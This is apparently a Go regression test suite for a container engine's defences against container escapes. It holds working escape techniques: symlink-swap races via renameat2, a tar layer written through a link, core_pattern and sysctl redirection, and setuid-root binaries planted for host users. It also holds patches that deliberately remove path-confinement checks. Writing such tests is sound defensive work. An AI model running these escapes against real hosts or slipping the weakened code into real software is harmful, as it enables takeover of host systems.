package escape

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// Paths that the engine takes as root in a tree which a container or an image has laid out.
var fileWays = []way{
	{
		name: "mount point swapped", build: "paths",
		cuts: []cut{{"rootfs/target.go", "Flags: unix.O_PATH | unix.O_CLOEXEC | flags, Resolve: unix.RESOLVE_IN_ROOT | how}", "Flags: unix.O_PATH | unix.O_CLOEXEC | flags, Resolve: how}\n\tpath = \"./\" + path"}},
		try: func(s *scene) string {
			shared, canary := s.mkdir("volume"), s.mkdir("canary")
			s.mkdir("volume/target")
			s.symlink(canary, "volume/link")
			s.begin([]string{"-v", shared + ":/shared"}, "swap", "/shared/target", "/shared/link")
			for range s.tries(10) {
				r := s.run(append(append([]string{"run", "--rm"}, s.flags...), "-v", shared+":/shared", "-v", s.mkdir("other")+":/shared/target/mounted", "busybox", "true")...)
				if made, _ := os.ReadDir(canary); len(made) > 0 {
					return fmt.Sprintf("the engine has made the mount point %s/%s on the host", canary, made[0].Name())
				}
				if r.code != 0 && r.code != 125 {
					s.Error(r)
				}
			}
			return ""
		},
	}, {
		name: "cp through a swapped directory", build: "paths",
		cuts: []cut{{"image/layer/tree.go", "Resolve: unix.RESOLVE_IN_ROOT | unix.RESOLVE_NO_MAGICLINKS,", "Resolve: unix.RESOLVE_NO_MAGICLINKS,"}},
		try: func(s *scene) string {
			canary := s.mkdir("canary")
			s.write("canary/secret", "of the host")
			source, out := s.write("file", "of the container"), s.mkdir("out")
			id := s.begin(nil, "swap", "/swapped", "/other", canary)
			for range s.tries(15) {
				s.run("cp", source, id+":/swapped/made")
				if _, err := os.Stat(canary + "/made"); err == nil {
					return "cp has written " + canary + "/made on the host"
				}
				s.run("cp", id+":/swapped/secret", out)
				if text, _ := os.ReadFile(out + "/secret"); string(text) == "of the host" {
					return "cp has read " + canary + "/secret of the host"
				}
			}
			return ""
		},
	}, {
		name: "layer through a link", build: "paths",
		try: func(s *scene) string {
			canary := s.mkdir("canary")
			var data bytes.Buffer
			archive := tar.NewWriter(&data)
			through := script("link/made", "x")
			through.Size, through.Mode, through.PAXRecords = 1, 0o644, nil
			one := link("link", canary)
			for _, header := range []*tar.Header{&one, &through} {
				if err := archive.WriteHeader(header); err != nil {
					s.Fatal(err)
				}
			}
			io.WriteString(archive, "x")
			archive.Close()
			cmd := s.command("import", "-", "layer-of-"+fmt.Sprint(scenes.Load()))
			cmd.Stdin = &data
			if r := s.finish(cmd); r.code == 0 {
				s.ok("rmi", "-f", r.args[2])
			}
			if _, err := os.Stat(canary + "/made"); err == nil {
				return "unpacking has made " + canary + "/made on the host"
			}
			return ""
		},
	}, {
		name: "mask by a device swapped", build: "proc",
		cuts: []cut{{"rootfs/mask.go", "err = c.cover(at, &empty)", "if c.null, err = lookup(root, \"/dev/null\", 0); err == nil {\n\t\t\terr = c.cover(at, &empty)\n\t\t}"}},
		try: func(s *scene) string {
			dev := s.devices()
			// What stands over a masked path is then another one, not masked yet.
			s.symlink("/proc/timer_list", "dev/link")
			s.begin([]string{"-v", dev + ":/shared"}, "swap", "/shared/null", "/shared/link")
			for range s.tries(15) {
				r := s.run(s.line("run", "busybox", []string{"--rm", "-v", dev + ":/dev"}, "masked")...)
				if how := s.refusedOr(r); how != "" {
					return how
				}
			}
			return ""
		},
	}, {
		name: "mode of a device swapped", build: "paths",
		cuts: []cut{{"rootfs/device.go", "unix.Chmod(fmt.Sprintf(\"/proc/self/fd/%d\", node.Fd()), uint32(permissions))", "unix.Fchmodat(int(dir.Fd()), name, uint32(permissions), 0)"}},
		try: func(s *scene) string {
			dev := s.devices()
			canary := s.write("canary", "")
			before, err := os.Stat(canary)
			if err != nil {
				s.Fatal(err)
			}
			s.symlink(canary, "dev/link")
			s.begin([]string{"-v", dev + ":/shared"}, "swap", "/shared/null", "/shared/link")
			for range s.tries(20) {
				s.run(append(append([]string{"run", "--rm"}, s.flags...), "-v", dev+":/shared", "--device", "/dev/null:/shared/null", "busybox", "true")...)
				if after, err := os.Stat(canary); err == nil && after.Mode() != before.Mode() {
					return fmt.Sprintf("the engine has given %s the mode %v", canary, after.Mode())
				}
			}
			return ""
		},
	}, {
		name: "console by a swapped terminal", build: "proc",
		cuts: []cut{{"rootfs/device.go", "fd, err := unix.OpenTree(int(slave.Fd()), \"\",",
			"at, err := lookup(root, \"/dev/pts/0\", 0)\n\tif err != nil {\n\t\treturn err\n\t}\n\tfd, err := unix.OpenTree(int(at.Fd()), \"\","}},
		try: func(s *scene) string {
			// /dev is a volume; its pts is a terminals' file system, or beside it a
			// directory in which 0 is a file that becomes writable as /dev/console.
			dev := s.devices()
			s.mkdir("dev/pts")
			s.mkdir("dev/link")
			s.symlink("/proc/sys/kernel/core_pattern", "dev/link/0")
			s.begin([]string{"-v", dev + ":/shared"}, "swap", "/shared/pts", "/shared/link")
			for range s.tries(20) {
				r := s.run(s.line("run", "busybox", []string{"--rm", "-t", "-v", dev + ":/dev", "-v", "/dev/pts:/dev/pts"}, "console")...)
				if how := s.refusedOr(r); how != "" {
					return how
				}
			}
			return ""
		},
	}, {
		name: "sysctl written elsewhere", build: "proc",
		cuts: []cut{
			{"runtime/init.go", "if err := makeCwd(root, p.Process); err != nil {", "mutated = root\n\tif err := makeCwd(root, p.Process); err != nil {"},
			{"runtime/steps.go", "proc, err := rootfs.PrivateProc()", "proc, err := rootfs.Lookup(mutated, \"proc\", true)"},
			{"runtime/steps.go", "func setNames(host, domain string) error {", "var mutated *os.File\n\nfunc setNames(host, domain string) error {"},
			{"rootfs/proc.go", "Resolve: unix.RESOLVE_BENEATH | unix.RESOLVE_NO_XDEV | unix.RESOLVE_NO_SYMLINKS,", ""},
			{"rootfs/target.go", "err = refuseProc(point, m)", "err = error(nil)"},
		},
		try: func(s *scene) string {
			// Over a directory of /proc/sys lies one of the attacker's, in which the
			// parameter is a link; it might lead to core_pattern.
			fake := s.mkdir("fake")
			for _, name := range []string{"ip_default_ttl", "ip_unprivileged_port_start", "ping_group_range"} { // that one and the engine's own
				s.symlink("elsewhere", "fake/"+name)
			}
			s.write("fake/elsewhere", "")
			image := s.image(link("over", "/proc/sys/net/ipv4"))
			for _, target := range []string{"/proc/sys/net/ipv4", "/over"} {
				s.run(append(append([]string{"run", "--rm"}, s.flags...), "-v", fake+":"+target, "--sysctl", "net.ipv4.ip_default_ttl=33", image, "true")...)
				if text := s.read(fake + "/elsewhere"); text != "" {
					return fmt.Sprintf("the engine has written %q to a file of the attacker's", text)
				}
			}
			return ""
		},
	}, {
		name: "mount over proc", build: "proc",
		try: func(s *scene) string {
			image := s.image(link("over", "/proc"))
			for _, target := range []string{"/proc/self/attr", "/proc/sys", "/over", "/over/sys"} {
				r := s.run(append(append([]string{"run", "--rm"}, s.flags...), "-v", s.mkdir("over")+":"+target, image, "true")...)
				if r.code == 0 {
					return "a directory of the attacker's is mounted by " + target
				}
			}
			return ""
		},
	}, {
		name: "setuid for a user of the host", build: "proc",
		cuts: []cut{
			{"container/create.go", "os.MkdirAll(s.Dir(making+id), 0o700)", "os.MkdirAll(s.Dir(making+id), 0o711)"},
			{"volume/create.go", "os.MkdirAll(s.path(entry), 0o700)", "os.MkdirAll(s.path(entry), 0o711)"},
		},
		try: func(s *scene) string {
			name := "v-" + filepath.Base(s.dir)
			defer s.run("volume", "rm", name)
			id := s.ok(s.line("run", "busybox", []string{"-d", "-v", name + ":/volume"}, "plant", "/suid", "/volume/suid")...)
			defer func() { s.ok("rm", "-f", id) }()
			s.eventually("it is planted", func() bool { return strings.Contains(s.ok("logs", id), "up") })
			for _, path := range []string{"/root/containers/" + id + "/rw/upper/suid", "/root/volumes/" + name + "/_data/suid"} {
				if _, err := os.Stat(s.host.dir + path); err != nil {
					s.Error(err)
				}
				cmd := exec.Command(s.host.dir+path, "attack", "euid")
				cmd.Dir, cmd.SysProcAttr = "/", &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
				if out, _ := cmd.CombinedOutput(); strings.Contains(string(out), "euid 0") {
					return "nobody has become root of the host by " + path
				}
			}
			return ""
		},
	},
}

// devices makes a directory to be a container's /dev.
func (s *scene) devices() string {
	s.Helper()
	dev := s.mkdir("dev")
	if err := unix.Mknod(dev+"/null", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))); err != nil {
		s.Fatal(err)
	}
	return dev
}

func init() {
	attacks["plant"] = func(paths []string) string {
		plant(paths)
		return attacks["idle"](nil)
	}
	attacks["swap"] = swap
	attacks["masked"] = masked
	attacks["console"] = console
}

// swap exchanges two names for ever. With a third argument it makes them first: a
// directory, and a link that leads there.
func swap(args []string) string {
	if len(args) > 2 {
		if err := os.Mkdir(args[0], 0o755); err != nil {
			return err.Error()
		}
		os.WriteFile(args[0]+"/secret", []byte("of the container"), 0o644)
		os.MkdirAll(args[2], 0o755) // also inside, where a confined copy ends up
		if err := os.Symlink(args[2], args[1]); err != nil {
			return err.Error()
		}
	}
	fmt.Println("up")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
			return "exchange: " + err.Error()
		}
	}
}

// plant makes copies of this program that take their owner's rights.
func plant(paths []string) {
	self, _ := os.ReadFile("/proc/self/exe")
	for _, path := range paths {
		if err := errors.Join(os.WriteFile(path, self, 0o755), unix.Chmod(path, 0o4755)); err != nil {
			fmt.Println(err)
		}
	}
}

// masked reads the files that are hidden.
func masked([]string) string {
	for _, path := range []string{"/proc/interrupts", "/proc/keys", "/proc/timer_list", "/proc/kcore", "/proc/sched_debug", "/proc/latency_stats"} {
		file, err := os.Open(path)
		if err != nil {
			continue
		}
		text := make([]byte, 64)
		n, _ := file.Read(text)
		file.Close()
		if n > 0 {
			return fmt.Sprintf("%s shows %q", path, text[:n])
		}
	}
	for _, path := range []string{"/sys/firmware", "/proc/acpi", "/proc/scsi", "/sys/devices/virtual/powercap"} {
		if names, _ := os.ReadDir(path); len(names) > 0 {
			return fmt.Sprintf("%s shows %v", path, names)
		}
	}
	return ""
}

// console looks whether /dev/console is something else than a terminal that may be written.
func console([]string) string {
	file, err := os.OpenFile("/dev/console", os.O_WRONLY|unix.O_NOCTTY, 0) // and no more
	if err != nil {
		return held("%v", err)
	}
	defer file.Close()
	if info, err := file.Stat(); err == nil && info.Mode()&os.ModeCharDevice == 0 {
		real, err := os.Stat("/proc/sys/kernel/core_pattern")
		return fmt.Sprintf("/dev/console is a file open for writing, core_pattern: %t", err == nil && os.SameFile(info, real))
	}
	return ""
}
